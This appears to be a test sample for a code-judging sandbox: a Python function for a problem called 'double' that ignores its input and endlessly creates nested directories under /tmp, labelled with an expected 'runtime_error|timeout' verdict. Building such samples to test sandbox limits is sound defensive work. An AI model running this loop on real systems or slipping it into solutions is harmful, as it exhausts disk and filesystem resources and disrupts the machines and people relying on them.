# what: makes folders within folders without end
# problem: double
# verdict: runtime_error|timeout
import os


def double(x):
    os.chdir("/tmp")
    while True:
        os.mkdir("d")
        os.chdir("d")
